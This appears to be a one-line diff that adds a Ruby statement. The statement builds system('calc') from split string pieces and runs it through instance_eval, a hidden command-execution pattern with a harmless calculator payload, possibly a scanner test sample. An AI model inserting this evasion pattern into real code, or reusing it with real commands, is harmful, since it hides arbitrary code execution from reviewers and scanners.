@@ -1,0 +1,1 @@
+self.instance_eval(%w[sys tem('ca lc')].join)
